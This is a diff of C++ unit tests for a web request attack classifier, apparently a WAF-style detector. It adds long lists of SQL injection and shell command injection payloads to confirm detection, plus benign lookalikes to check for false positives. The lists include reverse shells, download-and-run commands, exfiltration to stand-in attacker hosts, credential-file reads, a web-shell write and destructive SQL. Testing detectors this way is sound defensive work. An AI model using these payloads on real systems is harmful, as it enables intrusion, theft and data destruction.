@@ -8,11 +8,10 @@
 #include <gtest/gtest.h>
 #include <unistd.h>
 
-#include <filesystem>
-#include <fstream>
-
 #include <algorithm>
 #include <cstring>
+#include <filesystem>
+#include <fstream>
 #include <memory>
 #include <set>
 #include <string>
@@ -103,6 +102,35 @@ class ClassifierFixture : public ::testing::Test {
     }
   }
 
+  // Sends each value as a query parameter, percent-encoded as a client would (everything but
+  // RFC 3986 unreserved characters), and reports every value the category misses.
+  static void expectValues(Category c, std::string_view prefix,
+                           const std::vector<std::string_view>& values) {
+    std::size_t missed = 0;
+    for (const std::string_view v : values) {
+      std::string target(prefix);
+      for (const char ch : v) {
+        const auto b = static_cast<unsigned char>(ch);
+        if ((b >= 'a' && b <= 'z') || (b >= 'A' && b <= 'Z') || (b >= '0' && b <= '9') ||
+            b == '-' || b == '.' || b == '_' || b == '~') {
+          target.push_back(ch);
+        } else {
+          static constexpr char kHex[] = "0123456789ABCDEF";
+          target.push_back('%');
+          target.push_back(kHex[b >> 4]);
+          target.push_back(kHex[b & 15]);
+        }
+      }
+      const Detection d = classify({target});
+      if (!hasCategory(d.categories, c)) {
+        ++missed;
+        ADD_FAILURE() << categoryName(c) << " missed: " << v << "  (" << target << ") -> "
+                      << describe(d);
+      }
+    }
+    EXPECT_EQ(missed, 0u) << "of " << values.size();
+  }
+
   static Classifier* classifier_;
 };
 
@@ -147,9 +175,9 @@ TEST(ClassifierBuild, CompiledDatabasesAreCachedAndDamagedCachesRecompiled) {
   auto second = Classifier::create(dir);
   ASSERT_TRUE(second.ok()) << second.error().message;
   EXPECT_TRUE(second.value()->loadedFromCache());
-  const std::vector<std::string> targets = {"/item?id=1%27%20union%20select%201,2--",
-                                            "/../../etc/passwd", "/remote/fgt_lang?lang=/../../x",
-                                            "/index.html", "/q?s=%3Cscript%3Ealert(1)%3C/script%3E"};
+  const std::vector<std::string> targets = {
+      "/item?id=1%27%20union%20select%201,2--", "/../../etc/passwd",
+      "/remote/fgt_lang?lang=/../../x", "/index.html", "/q?s=%3Cscript%3Ealert(1)%3C/script%3E"};
   for (const auto& t : targets) {
     HttpRequestLine line;
     line.method = "GET";
@@ -302,6 +330,222 @@ TEST_F(ClassifierSqli, TokenizerParameterWithoutEquals) {
   EXPECT_TRUE(hasCategory(d.categories, Category::kSqli)) << describe(d);
 }
 
+// Attack values written for this test from the request shapes of sqlmap's techniques (boolean,
+// error, time, UNION, stacked) and its tamper scripts, and from hand-written attacks on MySQL,
+// PostgreSQL, MSSQL, Oracle and SQLite. Each is the decoded value of a query parameter; the test
+// percent-encodes it as a client would send it.
+TEST_F(ClassifierSqli, TechniquesDialectsAndTamperScripts) {
+  const std::vector<std::string_view> values = {
+      // Boolean-based blind (sqlmap boundaries: numeric, quoted, parenthesised, LIKE).
+      R"v(1 AND 5678=5678)v",
+      R"v(1) AND 5678=5678 AND (3456=3456)v",
+      R"v(1' AND 5678=5678 AND 'abcd'='abcd)v",
+      R"v(1') AND 5678=5678 AND ('abcd'='abcd)v",
+      R"v(1')) AND 5678=5678 AND (('abcd'='abcd)v",
+      R"v(1' AND 5678=5678-- -)v",
+      R"v(1 AND 5678=5678-- abcd)v",
+      R"v(-7134 OR 4123=4123)v",
+      R"v(-7134' OR 4123=4123#)v",
+      R"v(1%' AND 5678=5678 AND '%'=')v",
+      R"v(1" AND 5678=5678 AND "abcd"="abcd)v",
+      R"v(1 OR NOT 5678=5679)v",
+      R"v(1 AND 5678=5678 AND 9227=9227-- sp_password)v",
+      R"v(1 RLIKE (SELECT (CASE WHEN (5678=5678) THEN 1 ELSE 0x28 END)))v",
+      R"v(1' RLIKE (SELECT (CASE WHEN (5678=5678) THEN 0x61 ELSE 0x28 END))-- -)v",
+      R"v(1 AND MAKE_SET(5678=5678,1234))v",
+      R"v(1 AND ELT(5678=5678,1234))v",
+      R"v((SELECT (CASE WHEN (5678=5678) THEN 1 ELSE (SELECT 4567 UNION SELECT 8901) END)))v",
+      R"v(1,(SELECT (CASE WHEN (5678=5678) THEN 1 ELSE 5678*(SELECT 5678 FROM INFORMATION_SCHEMA.PLUGINS) END)))v",
+      R"v(1 AND 5678=(SELECT (CASE WHEN (5678=5678) THEN 5678 ELSE (SELECT 4567 UNION SELECT 8901) END))-- -)v",
+      R"v(1 AND (SELECT 'a' FROM DUAL)='a')v",
+      R"v(1 and ascii(substring(user(),1,1))>64)v",
+      R"v(1 and substring(@@version,1,1)=5)v",
+      R"v(1 and length(database())=8)v",
+      R"v(1 and (select substring(password,1,1) from users where username='admin')='a')v",
+      R"v(1' and (select count(*) from users)>0-- -)v",
+      R"v(x' and ascii(substring((select database()),1,1))>100-- -)v",
+      R"v(1 and 1 regexp 1)v",
+      R"v(1' rlike '1)v",
+      R"v(1 and (select 1)regexp if(1=1,1,0x00))v",
+      R"v(1 and elt(1=1,sleep(5)))v",
+      R"v(1 and make_set(1=1,sleep(5)))v",
+      R"v(1 having 1=1--)v",
+      R"v(1' having 1=1-- -)v",
+      R"v(1 group by 1,2,3-- -)v",
+      R"v(1' ORDER BY 3#)v",
+      R"v(1 div 0 or 1=1)v",
+      R"v(1 xor 1=1)v",
+      R"v(if(1=1,1,0))v",
+      R"v(1 and if(1=1,sleep(5),0))v",
+      // Values with text before the injection.
+      R"v(abc' AND 1=1-- -)v",
+      R"v(john' OR 'x'='x)v",
+      R"v(shoes' UNION SELECT NULL,NULL--)v",
+      R"v(test'||(SELECT '')||')v",
+      R"v(search term' ORDER BY 5-- -)v",
+      R"v(blue%' and 1=1 and '%'=')v",
+      R"v(admin' or '1'='1'#)v",
+      R"v(1' or 1=1 or ''=')v",
+      R"v(1'||'1'='1)v",
+      R"v(1")) or (("1"="1)v",
+      R"v(%' or '0'='0)v",
+      R"v(1'-sleep(5)-')v",
+      R"v('=')v",
+      R"v(' or 1 -- -)v",
+      // Error-based.
+      R"v(1 AND EXTRACTVALUE(5678,CONCAT(0x5c,0x71787a7871,(SELECT (ELT(5678=5678,1))),0x71706b7071)))v",
+      R"v(1 AND UPDATEXML(5678,CONCAT(0x2e,0x71,(SELECT (ELT(5678=5678,1))),0x71),5678))v",
+      R"v(1 AND (SELECT 5678 FROM(SELECT COUNT(*),CONCAT(0x71,(SELECT (ELT(5678=5678,1))),0x71,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a))v",
+      R"v(1 OR (SELECT 5678 FROM(SELECT COUNT(*),CONCAT(0x71,version(),FLOOR(RAND(0)*2))x FROM users GROUP BY x)a))v",
+      R"v(1 AND EXP(~(SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(5678=5678,1))),0x71,0x78))x)))v",
+      R"v(1 AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x71,(SELECT (ELT(5678=5678,1))),0x71)) USING utf8))))v",
+      R"v(1 AND 5678=CAST((CHR(113)||CHR(120))||(SELECT (CASE WHEN (5678=5678) THEN 1 ELSE 0 END))::text||(CHR(113)) AS NUMERIC))v",
+      R"v(1 AND 5678 IN (SELECT (CHAR(113)+CHAR(120)+(SELECT (CASE WHEN (5678=5678) THEN CHAR(49) ELSE CHAR(48) END))+CHAR(113))))v",
+      R"v(1' AND 5678=CONVERT(INT,(SELECT CHAR(113)+CHAR(120)+(SELECT @@version)))-- -)v",
+      R"v(1 AND 1=CONVERT(int,@@version))v",
+      R"v(1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects)))v",
+      R"v(1' AND 1=(SELECT TOP 1 CAST(name AS varchar) FROM sys.databases)--)v",
+      R"v(1 AND 5678=CTXSYS.DRITHSX.SN(5678,(CHR(113)||CHR(120)||(SELECT (CASE WHEN (5678=5678) THEN 1 ELSE 0 END) FROM DUAL)||CHR(113))))v",
+      R"v(1 AND 5678=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||CHR(113)||(SELECT (CASE WHEN (5678=5678) THEN 1 ELSE 0 END) FROM DUAL)||CHR(62))) FROM DUAL))v",
+      R"v(1' AND 5678=UTL_INADDR.GET_HOST_ADDRESS(CHR(113)||CHR(120))-- )v",
+      R"v(1 AND 1=CAST(version() AS int))v",
+      R"v(1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1))v",
+      // Time-based blind.
+      R"v(1 AND SLEEP(5))v",
+      R"v(1' AND SLEEP(5) AND 'abcd'='abcd)v",
+      R"v(1 AND (SELECT 5678 FROM (SELECT(SLEEP(5)))abcd))v",
+      R"v(1' AND (SELECT 5678 FROM (SELECT(SLEEP(5)))abcd)-- abcd)v",
+      R"v(1 OR SLEEP(5)#)v",
+      R"v(1;SELECT SLEEP(5)#)v",
+      R"v(1;SELECT PG_SLEEP(5)--)v",
+      R"v(1 AND 5678=(SELECT 5678 FROM PG_SLEEP(5)))v",
+      R"v(1';WAITFOR DELAY '0:0:5'--)v",
+      R"v(1 WAITFOR DELAY '0:0:5')v",
+      R"v(1) WAITFOR DELAY '0:0:5'--)v",
+      R"v(';if (1=1) waitfor delay '0:0:5'--)v",
+      R"v(1;IF(SUBSTRING(USER,1,1)='d') WAITFOR DELAY '0:0:5'--)v",
+      R"v(1 AND 5678=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65)||CHR(66),5))v",
+      R"v(1 AND 5678=LIKE(CHAR(65,66,67),UPPER(HEX(RANDOMBLOB(500000000/2)))))v",
+      R"v(1 AND 5678=BENCHMARK(5000000,MD5(0x41424344)))v",
+      R"v(if(now()=sysdate(),sleep(5),0))v",
+      R"v(0'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z)v",
+      R"v("XOR(if(now()=sysdate(),sleep(5),0))XOR")v",
+      R"v((select(0)from(select(sleep(5)))v)/*'+(select(0)from(select(sleep(5)))v)+'"+(select(0)from(select(sleep(5)))v)+"*/)v",
+      R"v(1'||pg_sleep(5)--)v",
+      R"v(1||(SELECT pg_sleep(5)))v",
+      R"v(1;SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--)v",
+      R"v(1 and 1=(select count(*) from all_users t1, all_users t2, all_users t3))v",
+      R"v(1 AND GET_LOCK('abcd',5))v",
+      R"v(1' AND sleep(5*1)-- -)v",
+      // UNION-based.
+      R"v(-1 UNION ALL SELECT NULL,NULL,CONCAT(0x71,0x72)-- -)v",
+      R"v(1' UNION ALL SELECT NULL,NULL,NULL#)v",
+      R"v(-1' UNION SELECT 1,group_concat(table_name),3 FROM information_schema.tables WHERE table_schema=database()-- -)v",
+      R"v(1) UNION ALL SELECT NULL,NULL-- -)v",
+      R"v(-1 UNION SELECT username||':'||password FROM users--)v",
+      R"v(' UNION SELECT NULL,banner FROM v$version--)v",
+      R"v(' UNION SELECT name,NULL FROM sqlite_master WHERE type='table'--)v",
+      R"v(0 union select 1,load_file('/etc/passwd'),3)v",
+      R"v(1 UNION SELECT NULL,name FROM master..sysdatabases--)v",
+      R"v(' UNION SELECT NULL,NULL FROM DUAL--)v",
+      R"v(-.1UNION SELECT 1,2)v",
+      R"v(1e0UNION SELECT 1,2)v",
+      R"v(' OR JSON_LENGTH("{}") <= 8896 UNION DISTINCT SELECT @@version #)v",
+      // Stacked queries.
+      R"v(1; DROP TABLE users--)v",
+      R"v(1'; EXEC xp_cmdshell('ping 10.0.0.1')--)v",
+      R"v(1; EXEC sp_configure 'show advanced options',1; RECONFIGURE--)v",
+      R"v(1';INSERT INTO users(username,password) VALUES('hacker','x')--)v",
+      R"v(1'; UPDATE users SET password='x' WHERE username='admin'--)v",
+      R"v(1; COPY (SELECT '') TO PROGRAM 'id'--)v",
+      R"v(1';CREATE TABLE cmd_exec(cmd_output text);--)v",
+      R"v(1; DECLARE @q VARCHAR(99);SET @q='\\x.example.net\a';EXEC master.dbo.xp_dirtree @q--)v",
+      R"v(1; SELECT @@version--)v",
+      // Dialect specifics.
+      R"v(' OR 1=1 AND ROWNUM=1--)v",
+      R"v(1 AND (SELECT COUNT(*) FROM all_users)>0)v",
+      R"v('||(SELECT utl_http.request('http://203.0.113.9/'||user) FROM dual)||')v",
+      R"v(1 AND unicode(substr((SELECT sql FROM sqlite_master),1,1))>64)v",
+      R"v(' AND randomblob(1000000000)--)v",
+      R"v(1 AND 'a'::text='a')v",
+      R"v(1 AND (SELECT current_setting('is_superuser'))='on')v",
+      R"v(1 AND 1=(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/(SELECT 0) END))v",
+      R"v(1 OR '{"b":2}'::jsonb <@ '{"a":1,"b":2}'::jsonb)v",
+      R"v(1 AND JSON_EXTRACT('{"id":14}','$.id')=14)v",
+      R"v(1 and @@version like '%5%')v",
+      R"v(1 AND db_name()=db_name())v",
+      R"v(1' AND EXTRACTVALUE(xmltype('<x/>'),'/l') IS NOT NULL--)v",
+      // Tamper scripts (the decoded value the server sees).
+      R"v(1/**/AND/**/5678=5678)v",
+      R"v(-1/**/UNION/**/ALL/**/SELECT/**/NULL,NULL--)v",
+      "1--abcd\nAND--abcd\n5678=5678",
+      "1#abcd\nAND#abcd\n5678=5678",
+      "1%23ngfhj\nAND%23\n5678=5678",
+      "1\x01"
+      "AND\x0b"
+      "5678=5678",
+      "1\rAND\f5678=5678",
+      "1\tAND\t5678\tLIKE\t5678",
+      R"v(1 AnD 5678=5678)v",
+      R"v(1 AND 5678 BETWEEN 5678 AND 5678)v",
+      R"v(1 AND 5678 NOT BETWEEN 0 AND 5677)v",
+      R"v(1 AND 5678 LIKE 5678)v",
+      R"v(1 AND GREATEST(5678,5677+1)=5678)v",
+      R"v(1 AND LEAST(5678,5679)=5678)v",
+      R"v(1 /*!30874AND 2>1*/--)v",
+      R"v(1 /*!00000AND 2>1*/--)v",
+      R"v(1'/*!0UNION/*!0ALL/*!0SELECT/*!0CONCAT(/*!0CHAR(58,107,112,113,58),/*!0IFNULL(CAST(/*!0CURRENT_USER()/*!0AS/*!0CHAR),/*!0CHAR(32)),/*!0CHAR(58,97,110,121,58)),/*!0NULL,/*!0NULL#/*!0AND 'QDWa'='QDWa)v",
+      R"v(1/*!UNION*//*!ALL*//*!SELECT*//*!NULL*/,/*!NULL*/#)v",
+      R"v(1 /*!50000union*/ /*!50000all*/ /*!50000select*/ 1,2,3)v",
+      R"v(1 /*!50000and*/ 1=1)v",
+      R"v(1 && 5678=5678)v",
+      R"v(1 || 1=1)v",
+      R"v(1 AND IF(ISNULL(CAST(CURRENT_USER() AS CHAR)),0x20,CAST(CURRENT_USER() AS CHAR))=0x20)v",
+      R"v(-1 UNION SELECT CONCAT_WS(MID(CHAR(0),0,0),0x71,version(),0x71)-- -)v",
+      R"v(1 AND MID(VERSION() FROM 1 FOR 1)=5)v",
+      R"v(1 AND 1=1 LIMIT 1 OFFSET 0-- -)v",
+      R"v(1 AND ORD(MID((SELECT IFNULL(CAST(COUNT(*) AS NCHAR),0x20) FROM users),1,1))>51)v",
+      R"v(1 and 1=1 union select 1,table_name from information_schema/**/.tables)v",
+      R"v(1 %A%N%D 5678=5678)v",
+      R"v(1 U/**/NION S/**/ELECT 1,2)v",
+      "1\xa0"
+      "AND\xa0"
+      "5678=5678",
+      R"v(1＇ AND 1=1-- -)v",
+      // Generic probes of hand testing and fuzzing lists.
+      R"v(' or ''-')v",
+      R"v('||''||')v",
+      R"v('=0--+)v",
+      R"v(" or 0=0 --)v",
+      R"v(hi' or 'x'='x';)v",
+      R"v(x' AND email IS NULL; --)v",
+      R"v(' or 1 in (select @@version)--)v",
+      R"v('; shutdown--)v",
+      R"v(' and 1 in (select min(name) from sysobjects where xtype = 'U' and name > '.') --)v",
+      R"v(1' or '1'='1'))/*)v",
+      R"v(admin" --)v",
+      R"v(admin") or ("1"="1)v",
+      R"v(1' GROUP BY 1,2,--+)v",
+      R"v(' GROUP BY columnnames having 1=1 --)v",
+      R"v(-1 UNION SELECT 1 INTO @,@,@)v",
+      R"v(1 AND (SELECT * FROM Users) = 1)v",
+      R"v(' AND MID(VERSION(),1,1) = '5';)v",
+      R"v(,(select * from (select(sleep(10)))a))v",
+      R"v(' or sleep(5)=')v",
+      R"v(")) or sleep(5)=")v",
+      R"v();waitfor delay '0:0:5'--)v",
+      R"v(benchmark(10000000,MD5(1))#)v",
+      R"v(pg_sleep(5)--)v",
+      R"v(ORDER BY SLEEP(5))v",
+      R"v(' + SLEEP(10) + ')v",
+      R"v(SLEEP(1)/*' or SLEEP(1) or '" or SLEEP(1) or "*/)v",
+      R"v(1' and '1'='1)v",
+      R"v(' or username like '%)v",
+      R"v(1 or true--)v",
+  };
+  expectValues(Category::kSqli, "/page?id=", values);
+}
+
 // ------------------------------------------------------------------ path traversal
 
 TEST_F(ClassifierTraversal, Evasions) {
@@ -386,6 +630,176 @@ TEST_F(ClassifierCommandInjection, SeparatorsCommandsAndEvasions) {
                 {"/viewer?doc=%26+net+user"},  // '&' then a space: no parameter starts so
                 {"/download?file=file.txt;%09ls"},
             });
+}
+
+// Attack values written for this test from the shapes of published command-injection payload
+// lists (separators, evasions of filters on spaces, quotes and command names, time-based and
+// out-of-band probes, download-and-run, reverse shells) for Unix shells and cmd.exe/PowerShell.
+// Each is the decoded value of a parameter that reaches a shell.
+TEST_F(ClassifierCommandInjection, SeparatorsEvasionsAndPlatforms) {
+  const std::vector<std::string_view> values = {
+      // Separators.
+      ";id",
+      "|id",
+      "`id`",
+      "$(id)",
+      "\nid",
+      "\r\nid",
+      "&&id",
+      "|| id",
+      "127.0.0.1;id;",
+      "127.0.0.1|whoami",
+      "127.0.0.1 && whoami",
+      "x;uname -a",
+      "8.8.8.8 & id &",
+      "127.0.0.1\ncat /etc/passwd",
+      // Commands with arguments and full paths.
+      ";cat /etc/passwd",
+      ";/usr/bin/id",
+      "|/bin/cat /etc/passwd",
+      "||/usr/bin/id|",
+      ";ls -la /",
+      ";cat</etc/passwd",
+      ";head -n1 /etc/passwd",
+      ";tail /etc/shadow",
+      ";more /etc/passwd",
+      ";base64 /etc/passwd",
+      ";find / -perm -4000",
+      ";ps aux",
+      ";netstat -an",
+      ";ip addr",
+      ";cat /proc/version",
+      ";env",
+      ";printenv",
+      ";echo abcdef",
+      "|echo vulnerable",
+      "; whoami #",
+      ";id #",
+      ";sh -c id",
+      ";bash -c 'id'",
+      ";/bin/bash -c id",
+      ";touch /tmp/pwned",
+      ";chmod 777 /tmp/x",
+      ";awk 'BEGIN{system(\"id\")}'",
+      // Breaking out of quotes.
+      "'; id; '",
+      "\"; id #",
+      "'$(id)'",
+      "\"|id\"",
+      "x' && whoami && '",
+      "';id;'",
+      "'|id|'",
+      // Filter evasions: spaces, quotes, names, globbing, variables.
+      ";${IFS}id",
+      ";cat${IFS}/etc/passwd",
+      ";cat$IFS/etc/passwd",
+      ";cat$IFS$9/etc/passwd",
+      ";{cat,/etc/passwd}",
+      ";c'a't /etc/passwd",
+      ";c\"a\"t /etc/passwd",
+      ";c\\at /etc/passwd",
+      ";wh$@oami",
+      ";who$()ami",
+      ";a=i;b=d;$a$b",
+      ";/???/c?t /???/p??s??",
+      ";/b??/c?t /e??/p*d",
+      ";cat /e*c/p*d",
+      "1;sleep${IFS}5",
+      ";{sleep,5}",
+      ";echo${IFS}aWQ=|base64${IFS}-d|sh",
+      ";X=$'cat\\x20/etc/passwd'&&$X",
+      ";$'\\x69\\x64'",
+      // Time-based.
+      "$(sleep 5)",
+      "`sleep 5`",
+      ";sleep 10;",
+      "| sleep 5",
+      "& sleep 5 &",
+      ";sleep 5 &",
+      ";ping -c 10 127.0.0.1",
+      "& ping -c 5 127.0.0.1 &",
+      // Out-of-band and download-and-run.
+      ";nslookup abc.attacker.example",
+      ";dig +short x.evil.example",
+      "$(nslookup $(whoami).x.attacker.example)",
+      "$(curl http://203.0.113.5/$(whoami))",
+      ";curl http://203.0.113.5/x.sh|sh",
+      ";wget -O- http://203.0.113.5/x|sh",
+      ";wget http://203.0.113.5/x -O /tmp/x;chmod +x /tmp/x;/tmp/x",
+      ";curl -s evil.example/x | bash",
+      ";echo PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs= | base64 -d > /var/www/html/s.php",
+      // Interpreters and reverse shells.
+      ";python -c 'import socket,subprocess,os'",
+      ";python3 -c \"import os;os.system('id')\"",
+      ";perl -e 'print 1'",
+      ";php -r 'system(\"id\");'",
+      ";ruby -e 'exec \"id\"'",
+      ";nc 203.0.113.5 4444 -e /bin/sh",
+      ";nc -lvp 4444",
+      ";telnet 203.0.113.5 23",
+      ";busybox nc 203.0.113.5 4444 -e sh",
+      ";bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
+      ";rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f",
+      ";xterm -display 203.0.113.5:1",
+      // Windows.
+      "& whoami",
+      "| whoami",
+      "&& dir",
+      "| type c:\\windows\\win.ini",
+      "& type C:\\Windows\\System32\\drivers\\etc\\hosts",
+      "& %COMSPEC% /c whoami",
+      "| cmd /c whoami",
+      "& cmd.exe /c ipconfig",
+      "| powershell -e SQBFAFgAIAAoAE4AZQB3AC0A",
+      ";powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://x/a')\"",
+      "& ping -n 10 127.0.0.1",
+      "& net user",
+      "& net localgroup administrators",
+      "| systeminfo",
+      "& tasklist",
+      "& ver",
+      "& echo %USERNAME%",
+      "& nslookup x.attacker.example",
+      "& certutil -urlcache -split -f http://203.0.113.5/a.exe a.exe",
+      "& timeout /t 10",
+      "& wmic os get caption",
+      "&& whoami /priv",
+      "& w^h^o^a^m^i",
+      "& who\"a\"mi",
+      "\r\nwhoami",
+      // Parameters handed to a shell whole (direct execution).
+      "cat /etc/passwd | nc 203.0.113.5 4444",
+      "head -n 20 /etc/passwd",
+      "wget http://203.0.113.5/x.sh -O /tmp/x.sh",
+      "uname -a",
+      "ls -la /var/www",
+      "ping -c 3 203.0.113.5",
+      "nslookup x.attacker.example",
+      "python -c 'import os'",
+      "sleep 5",
+      "whoami /all",
+      "ps aux",
+      "uname -a;",
+      "cmd /c dir",
+      "type c:\\windows\\win.ini > c:\\inetpub\\wwwroot\\x.txt",
+      "curl http://203.0.113.5/shell.sh",
+      // More evasions.
+      "ping%CommonProgramFiles:~10,-18%127.0.0.1",
+      ";ls${LS_COLORS:10:1}${IFS}id",
+      "IFS=,;`cat<<<uname,-a`",
+      ";/\\b\\i\\n/////s\\h",
+      "<(id)",
+      ";ls%09-al%09/home",
+      // Code injection reaching an interpreter.
+      "phpinfo()",
+      "${@system(id)}",
+      "eval($_GET[c])",
+      "system('cat /etc/passwd');",
+      "process.mainModule.require('child_process').execSync('id')",
+      "__import__('os').popen('id').read()",
+      "IO.popen('id').read",
+  };
+  expectValues(Category::kCommandInjection, "/ping?host=", values);
 }
 
 // ------------------------------------------------------------------ xss
@@ -774,6 +1188,77 @@ TEST_F(ClassifierBenign, RealisticTrafficRaisesNothing) {
        "2BPc4KsMPY1fHj97Xd5Wrf"},
   };
   ASSERT_GE(benign.size(), 80u);
+  for (const Req& r : benign) {
+    const Detection d = classify(r);
+    EXPECT_EQ(d.categories, 0) << "false positive: " << r.target << " | ua=" << r.userAgent
+                               << " | referer=" << r.referer << " -> " << describe(d);
+    EXPECT_FALSE(d.reconnaissanceOnly) << r.target;
+    EXPECT_EQ(d.cveCount, 0) << r.target;
+  }
+}
+
+// Values that share surface features with the injections above (SQL words with comparisons,
+// shell words after ';' or '|', command names in searches, percent signs, '&&') and are not
+// attacks.
+TEST_F(ClassifierBenign, ShellAndSqlLookalikesRaiseNothing) {
+  const std::vector<Req> benign = {
+      {"/search?q=how+to+use+cat+command"},
+      {"/search?q=cat+%2Fetc%2Fhosts"},
+      {"/search?q=how+to+use+grep+-r"},
+      {"/search?q=wget+vs+curl"},
+      {"/search?q=ping+command+windows"},
+      {"/search?q=bash+if+then+else"},
+      {"/search?q=powershell+get-childitem"},
+      {"/search?q=id+card+renewal"},
+      {"/search?q=sleep+5+hours+a+night"},
+      {"/search?q=sleep+apnea+and+snoring"},
+      {"/search?q=ping+pong+table"},
+      {"/search?q=how+to+ping+a+server"},
+      {"/search?q=ls+command+linux"},
+      {"/search?q=curl+vs+wget"},
+      {"/search?q=python+tutorial+for+beginners"},
+      {"/search?q=echo+dot+review"},
+      {"/search?q=type+of+cats"},
+      {"/search?q=dir+en+grey"},
+      {"/search?q=net+user+guide"},
+      {"/search?q=find+my+phone"},
+      {"/search?q=head+and+shoulders"},
+      {"/search?q=who+am+i"},
+      {"/search?q=env+variables+in+docker"},
+      {"/search?q=%24HOME+directory"},
+      {"/search?q=set+and+forget"},
+      {"/search?q=the+more+the+merrier"},
+      {"/t?utm_content=banner|top|v2&utm_term=shoes"},
+      {"/p?cat=1;2"},
+      {"/p?cat=12;34;56"},
+      {"/filter?fields=id|name|email"},
+      {"/filter?fields=id;name;email"},
+      {"/api/items?sort=name|asc"},
+      {"/products?tags=dining;table;set"},
+      {"/search?q=cats;+dogs;+birds"},
+      {"/search?q=rock+and+roll;+blues+or+jazz"},
+      {"/search?q=price|size|color"},
+      {"/search?q=John+%26+Sons+Ltd"},
+      {"/search?q=version+2.0+%7C+release+notes"},
+      {"/search?q=O%27Neil%27s+pub;+dublin"},
+      {"/search?q=rock%27n%27roll;+hits"},
+      {"/search?q=I%27d+like+a+refund;+I%27d+prefer+cash"},
+      {"/search?q=mind+your+p%27s+and+q%27s"},
+      {"/search?q=100%25+off%3B+today+only"},
+      {"/search?q=a+%26%26+b"},
+      {"/search?q=1+%26%26+2"},
+      {"/search?q=select+case+when+sql"},
+      {"/search?q=order+by+relevance"},
+      {"/search?q=1+having+fun"},
+      {"/calc?expr=if(a%3D1,b,c)"},
+      {"/search?q=round(2.5)+%3D+3"},
+      {"/search?q=max(a,+b)+%3D+c"},
+      {"/search?q=power+(watts)+or+torque"},
+      {"/p?code=%25A%25B%25C"},
+      {"/p?fmt=%25s+and+%25d"},
+      {"/search?q=caf%C3%A9%C2%A0au+lait"},
+      {"/search?q=get_lock+function"},
+  };
   for (const Req& r : benign) {
     const Detection d = classify(r);
     EXPECT_EQ(d.categories, 0) << "false positive: " << r.target << " | ua=" << r.userAgent
